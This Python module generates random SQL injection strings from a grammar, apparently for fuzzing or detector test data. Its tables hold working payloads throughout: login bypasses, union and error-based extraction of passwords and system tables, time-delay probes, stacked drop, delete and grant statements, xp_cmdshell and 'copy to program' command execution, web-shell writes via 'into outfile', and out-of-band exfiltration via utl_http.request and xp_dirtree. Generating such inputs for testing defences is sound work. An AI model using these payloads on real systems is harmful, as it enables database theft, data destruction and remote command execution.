"""SQL injections made from a grammar: where a value is pasted, what ends it, what follows."""

import random
import re
from collections.abc import Callable, Sequence

HOLE = re.compile(r"\{(\w+)\}")
"""A name in a template, to be filled in; other braces are the text's own."""
_CLOSERS = (
    "'", "'", "'", "'", '"', '"', "')", "'))", '")', '"))', "`", "`)", "\\'", "%'", "%')", "'\"",
    "']", "']}", "'''", "’", "';",
)  # fmt: skip
_NUMERIC = ("", "", "", ")", "))", "]", "-")
_TAILS = (
    "", "", "-- ", "--", "-- -", "--+", "#", "/*", ";--", ";#", "; -- x", ";\x00", "-- {w}",
    "#{w}", " and '1'='1", " or '1'='1", " and ('1'='1", ' and "1"="1', " or 1=1--", "/*{w}*/",
    "\n--", ";", " limit 1", " limit 1 offset {n}", " order by 1", "%00",
)  # fmt: skip
_TABLES = (
    "users", "accounts", "members", "admin", "customers", "orders", "information_schema.tables",
    "information_schema.columns", "mysql.user", "sysobjects", "master..sysdatabases", "all_tables",
    "user_tab_columns", "dual", "sqlite_master", "pg_shadow", "pg_catalog.pg_tables", "{w}",
    "wp_{w}", "`{w}`.`{w}`", "[{w}]", "{w}.{w}", "employee", "logins", "sessions", "products",
    "secrets",
)  # fmt: skip
_COLUMNS = (
    "password", "username", "user_login", "user_pass", "email", "table_name", "column_name", "*",
    "passwd", "login", "id", "name", "{w}", "{w}_{w}", "@@version", "version()", "user()",
    "database()", "current_user", "system_user", "load_file('/etc/passwd')",
    "load_file(0x2f6574632f706173737764)", "banner", "null", "{n}", "'{w}'",
    "concat(username,0x3a,password)", "concat_ws(0x3a,user(),{w})", "group_concat(table_name)",
    "group_concat({w},':',{w} separator 0x0a)", "char(58)", "{w}||':'||{w}", "count(*)",
    "hex({w})", "cast({w} as char)", "string_agg({w},',')", "sqlite_version()",
)  # fmt: skip
_CONNECTIVES = (
    "or",
    "or",
    "or",
    "and",
    "and",
    "||",
    "&&",
    "xor",
    "or not",
    "and not",
    "having",
    "or+",
)
_OPERATORS = (
    "=", "=", "=", "<>", "!=", ">", "<", ">=", "like", "rlike", "regexp", "<=>", "is", "in (",
    "between 0 and", "sounds like", "==", "glob",
)  # fmt: skip
_FUNCTIONS = (
    "ascii(substr({sub},{d},1))", "length({sub})", "substring(({sub}),{d},1)",
    "ord(mid(({sub}),{d},1))", "left(database(),{d})", "count(*)", "hex(user())", "exists({sub})",
    "row_count()", "char({n})", "unicode(substring(({sub}),{d},1))", "bin({d})", "pi()", "rand()",
    "if({cond},{d},{d})", "iif({cond},{d},{d})", "(case when {cond} then {d} else {d} end)",
    "coalesce({w},{d})", "strcmp('{w}','{w}')", "sin({d})", "cos(('{d}'))", "round({d})",
    "least({d},{d})", "char_length('{w}')", "@{w}:={d}", "elt({n}={n},{d})", "ifnull({w},{d})",
    "nullif({d},{d})", "version()",
)  # fmt: skip
_DELAYS = (
    "sleep({d})", "sleep({d})", "pg_sleep({d})", "benchmark({n}00000,md5({d}))",
    "(select sleep({d}))", "(select * from (select(sleep({d})))a)", "randomblob({n}000000)",
    "waitfor delay '0:0:{d}'", "dbms_pipe.receive_message('{w}',{d})", "dbms_lock.sleep({d})",
    "(select pg_sleep({d}))", "(select {d} from pg_sleep({d}))", "if({cond},sleep({d}),0)",
    "case when {cond} then pg_sleep({d}) end",
    "like('abcdefg',upper(hex(randomblob({n}00000/2))))",
    "(select count(*) from {t} a,{t} b,{t} c)",
)  # fmt: skip
_ERRORS = (
    "extractvalue({d},concat(0x7e,({sub})))", "updatexml({d},concat(0x7e,({sub}),0x7e),{d})",
    "exp(~(select * from ({sub})x))", "convert(int,({sub}))", "cast(({sub}) as int)",
    "(select {d} from(select count(*),concat(({sub}),floor(rand(0)*2))x from {t} group by x)a)",
    "gtid_subset(({sub}),{d})", "ctxsys.drithsx.sn({d},({sub}))",
    "utl_inaddr.get_host_address(({sub}))", "xmltype('<:'||({sub})||'>')",
    "row({d},{d})>(select count(*),concat(version(),floor(rand(0)*2)))",
    "json_keys((select convert(({sub}) using utf8)))", "polygon((select * from ({sub})f))",
    "utl_http.request('http://{w}.{w}/'||({sub}))", "1/0", "st_latfromgeohash({sub})",
    "(({sub}))::int", "name_const(version(),{d})", "db_name({d})",
    "procedure analyse(extractvalue({d},{d}),{d})",
)  # fmt: skip
_STATEMENTS = (
    "drop table {t}", "delete from {t}", "delete from {t} where {cond}",
    "update {t} set {w}='{w}'", "update {t} set password='{w}' where username='{w}'",
    "insert into {t} values({d},'{w}')", "insert into {t}({w},{w}) values('{w}','{w}')",
    "exec master..xp_cmdshell '{w}'", "exec xp_cmdshell('{w} {w}')", "exec sp_executesql n'{sub}'",
    "declare @{w} varchar(99);set @{w}='{w}';exec(@{w})",
    "declare @q nvarchar(200) select @q=0x{h} exec(@q)", "shutdown with nowait",
    "waitfor delay '0:0:{d}'", "select pg_sleep({d})", "{sub}", "truncate table {t}",
    "create table {w}({w} int)", "alter table {t} add {w} int",
    "create user {w} identified by '{w}'", "grant all on *.* to {w}",
    "exec sp_addlogin '{w}','{w}'", "copy {t} from program '{w} {w}'",
    "copy (select '') to program '{w}'", "begin dbms_lock.sleep({d});end",
    "load data infile '/etc/passwd' into table {w}", "set @a=0x{h};prepare s from @a;execute s",
    "execute immediate '{sub}'", "call {w}.{w}({d})", "if({cond}) {sub} else drop function {w}",
    "exec master.dbo.xp_dirtree '//{w}/{w}'", "attach database '/tmp/{w}.php' as {w}",
    "handler {t} open", "merge into {t} using {w} on ({cond})", "commit", "rollback", "use master",
    "vacuum into '/tmp/{w}'",
)  # fmt: skip
_CLAUSES = (
    "order by {d}", "order by {n}", "group by {w} having {cond}", "group by {d}", "having {cond}",
    "limit {d},{d}", "limit {d} offset {d}", "procedure analyse()",
    "into outfile '/var/www/{w}.php'", "into dumpfile '/tmp/{w}'", "where {cond}",
    "where {w}='{w}' and {cond}", "as {w} where {cond}", "order by (select {d} from {t})",
    "order by if({cond},{d},{d})", "order by sleep({d})", "asc,{delay}", "desc,({sub})",
    "like '{w}%'", "in ({sub})", "between {d} and {d}", "is null", "is not null",
    "rlike (select (case when {cond} then {d} else 0x28 end))", "regexp '^{w}'", "collate nocase",
    "div {d}", "mod {d}={d}", "is true", "not in ({d},{d})", "and {w} in ({sub})", "into @{w}",
    "lock in share mode", "offset {d}",
)  # fmt: skip
_CONCATENATIONS = (
    "||({sub})||'", "+({sub})+'", "||{delay}||'", "+{delay}+'", "-{delay}-'", "*{delay}",
    "^({cond})^'", "||utl_http.request('http://{w}')||'", "-(if({cond},{d},{d}))-'", "|({sub})",
    "-{fn}-'", "/({sub})", "%({sub})", "=({sub})", "='{w}", "=''or'", "-0-'", "&{fn}&'", "like'",
    "||chr({n})||'", "||(select {col} from {t} where rownum=1)||'", " is '", "=0 or '", "^0^'",
)  # fmt: skip
_JSON = (
    "'{\"{w}\":{d}}'::jsonb @> '{\"{w}\":{d}}'", "json_extract('{\"{w}\":{d}}','$.{w}')={d}",
    "'{\"{w}\":{d}}'->'$.{w}'={d}", "json_length('{}')<={d}", "'[{d}]'::jsonb ? '{w}'",
    "data->>'{w}'='{w}'", "json_depth('{}') != {d}", "'{\"a\":{d}}' ->> '{w}' is not null",
    "isjson('{}')={d}", "jsonb_path_exists('{}','$.{w}')",
    "'{\"{w}\":[{d}]}' #> '{{w},{d}}' ? '{w}'",
)  # fmt: skip
_BLANKS = (
    "/**/", "\t", "\n", "+", "/*{w}*/", "  ", "\r\n", "--{w}\n", "%0a", "\x0b", "\xa0", "/*!*/",
    "%20", "#\n",
)  # fmt: skip
_SIDES = (
    "{d}", "{n}", "'{w}'", '"{w}"', "{w}", "({d})", "'{w}", "{fn}", "''", "true", "null",
    "not {d}", "@@version", "({sub})",
)  # fmt: skip
_UNIONS = (
    "union select ", "union all select ", "union(select ", "union distinct select ",
    "union select(", "union values(", "intersect select ", "union all select top 1 ",
    "union/*!50000select*/ ",
)  # fmt: skip
_COLUMN = ("{d}", "null", "{col}", "{n}", "'{w}'", "0x{h}", "char({n})")
_SOURCES = (
    "", "", " from {t}", " from {t} where {cond}", " from {t} limit {d},1", " from dual",
)  # fmt: skip


_OPERAND = re.compile(r"(?<=[ (=<>,])[\w@(]")
_SIGNS = ("", "", "-", "+", "~", "!", "@", "(", "- -", "-+-", "binary ", "not ", "(((", "{f ")
"""What may stand before an operand and changes nothing."""


def attack(rng: random.Random, words: Sequence[str]) -> str:
    """Return one injection; ``words`` are for names, values and what stands before it."""
    fill = _Filler(rng, words)
    kind = rng.choices(list(_KINDS), weights=[weight for _, weight in _KINDS.values()])[0]
    text = fill(_KINDS[kind][0](rng))
    if rng.random() < 0.12:
        text = _OPERAND.sub(lambda operand: rng.choice(_SIGNS) + operand[0], text)
    if rng.random() < 0.3:
        text = _respaced(rng, text, fill)
    return text


class _Filler:
    """Replaces the names in braces, down to a depth."""

    def __init__(self, rng: random.Random, words: Sequence[str]) -> None:
        self._rng = rng
        self._words = words

    def __call__(self, template: str, depth: int = 0) -> str:
        return HOLE.sub(lambda hole: self._one(hole[1], depth), template)

    def _one(self, name: str, depth: int) -> str:
        choose = self._rng.choice
        deep = depth > 2
        if name in _PLAIN:
            return _PLAIN[name](self._rng, self._words)
        if name == "sub" and deep:
            return "select 1"
        return self(choose(_NESTED[name]) if not deep else _SHALLOW.get(name, "1"), depth + 1)


_PLAIN: dict[str, Callable[[random.Random, Sequence[str]], str]] = {
    "w": lambda rng, words: rng.choice(words),
    "d": lambda rng, _: str(rng.choice((0, 1, 1, 1, 2, 3, 5, 7, 9, 10, 12, 99))),
    "n": lambda rng, _: str(rng.randrange(10, 10 ** rng.randint(2, 6))),
    "h": lambda rng, _: rng.randbytes(rng.randint(3, 16)).hex(),
    "t": lambda rng, words: rng.choice(_TABLES).replace("{w}", rng.choice(words)),
    "col": lambda rng, words: (
        rng.choice(_COLUMNS).replace("{w}", rng.choice(words)).replace("{n}", "1")
    ),
}
_NESTED: dict[str, Sequence[str]] = {
    "sub": (
        "select {col} from {t}", "select {col},{col} from {t} where {w}='{w}'", "select {col}",
        "select {col} from {t} limit {d},1", "select top 1 {col} from {t}", "select @@version",
        "select {fn} from {t}", "select distinct {col} from {t} where {cond}", "select {d}",
        "select min({w}) from {t} where {w}>'{w}'",
        "select(case when({cond})then({d})else({d})end)",
    ),
    "cond": (
        "{n}={n}", "{d}={d}", "1=1", "1=2", "'{w}'='{w}'", "{fn}>{n}", "{fn}={d}", "{w}='{w}'",
        "{w} like '{w}%'", "({sub})={d}", "not {d}={d}", "exists({sub})", "{w} is null", "true",
        "2>1", "{d} in ({d},{d})", "{d} between {d} and {d}", "''=''", "{n}<{n}",
        "({sub}) is not null",
    ),
    "fn": _FUNCTIONS,
    "delay": _DELAYS,
    "err": _ERRORS,
}  # fmt: skip
_SHALLOW = {"cond": "1=1", "fn": "user()", "delay": "sleep(5)", "err": "1/0"}


def _start(rng: random.Random, closers: Sequence[str]) -> str:
    before = rng.choice((
        "", "", "", "{d}", "{d}", "{n}", "-{d}", "-{n}", "{w}", "{w}", "{w} {w}", "{w}@{w}.com",
        "x", "a", "admin", "null", "0x{h}", "{n}-{n}", "{w}-{w}", "{d}.{d}", "%", "{w}.{w}",
        "?id={d}", "{w}={d}",
    ))  # fmt: skip
    return before + rng.choice(closers)


def _boolean(rng: random.Random) -> str:
    start = _start(rng, _CLOSERS if rng.random() < 0.65 else _NUMERIC)
    side, operator = rng.choice(_SIDES), rng.choice(_OPERATORS)
    compared = (f"{side}{operator}{side}", f"{side} {operator} {side}", side)
    condition = rng.choice(("{cond}", "({cond})", "{cond}", *compared))
    word, blank = rng.choice(_CONNECTIVES), rng.choice((" ", " ", "", "("))
    return f"{start}{rng.choice((' ', ' ', ''))}{word}{blank}{condition}{rng.choice(_TAILS)}"


def _union(rng: random.Random) -> str:
    start = _start(rng, _CLOSERS if rng.random() < 0.5 else _NUMERIC)
    column, count = rng.choice(_COLUMN), rng.choice((1, 2, 3, 4, 5, 8, 13))
    columns = ",".join(rng.choice((column, column, column, "{col}")) for _ in range(count))
    return f"{start} {rng.choice(_UNIONS)}{columns}{rng.choice(_SOURCES)}{rng.choice(_TAILS)}"


def _after_closer(bodies: Sequence[str], glue: Sequence[str]) -> Callable[[random.Random], str]:
    def make(rng: random.Random) -> str:
        closers = _CLOSERS if rng.random() < 0.6 else ("", ")", "))")
        start = _start(rng, closers) or "1"
        return f"{start}{rng.choice(glue)}{rng.choice(bodies)}{rng.choice(_TAILS)}"

    return make


def _bypass(rng: random.Random) -> str:
    """Return a login's comment or empty comparison."""
    return rng.choice((
        "{w}'--", "{w}' --", "{w}'#", "{w}'/*", "{w}';--", "' or ''='", "'='", "'or'1",
        "' or 1 --", "{w}' or 'x'='x", "') or ('{w}'='{w}", '" or ""="', "' or true--", "{w}') --",
        '{w}"--', '{w}")--', "'=0--+", "' or {w} like '%", "\\' or 1=1#", "'<1 --", "'+or+'1'='1",
        "' or '1", "{d}' or '{d}", "' having 1=1--", "' group by {w} having 1=1--",
        "'or 1 in (1)#", "' or {d} between 0 and {n}--", "' and {w} is null;--", "'LIKE'%",
        "' or-1#",
    ))  # fmt: skip


def _bare(rng: random.Random) -> str:
    """Return an expression where SQL takes one: sort orders, numbers, raw conditions."""
    return rng.choice((
        "(select({delay}))", "{delay}", "({sub})", "{err}", "if({cond},{d},{d})", "{w},({sub})",
        "{fn}", "{w} {cond}", "{d} {cond}", "(case when {cond} then {w} else {w} end)",
        "{w},{delay}", "{d}-{delay}", "{d}*({sub})",
        "{d},(select case when {cond} then {d} else {d}/0 end)", "{w};{sub}", "{d} and {err}",
        "{d} or {delay}", "xor(if({cond},sleep({d}),0))or", "0x{h} or {d}={d}", "-1 or {fn}>{d}",
    ))  # fmt: skip


def _json(rng: random.Random) -> str:
    word = rng.choice(("or", "and", "||"))
    return f"{_start(rng, _CLOSERS)} {word} {rng.choice(_JSON)}{rng.choice(_TAILS)}"


_KINDS: dict[str, tuple[Callable[[random.Random], str], int]] = {
    "boolean": (_boolean, 28),
    "union": (_union, 14),
    "stacked": (_after_closer(_STATEMENTS, (";", "; ", " ;", ";;", "); ", ";\n")), 12),
    "delay": (_after_closer(_DELAYS, (" or ", " and ", " || ", "+", "-", "*", " xor ", ";")), 8),
    "error": (_after_closer(_ERRORS, (" or ", " and ", " || ", "+", "-", ",", " xor ")), 8),
    "clause": (_after_closer(_CLAUSES, (" ", " ", ") ")), 10),
    "concatenation": (_after_closer(_CONCATENATIONS, ("", "", " ")), 6),
    "bypass": (_bypass, 7),
    "bare": (_bare, 5),
    "json": (_json, 2),
}


def _respaced(rng: random.Random, text: str, fill: _Filler) -> str:
    blank = rng.choice(_BLANKS)
    return "".join(fill(blank) if char == " " else char for char in text)
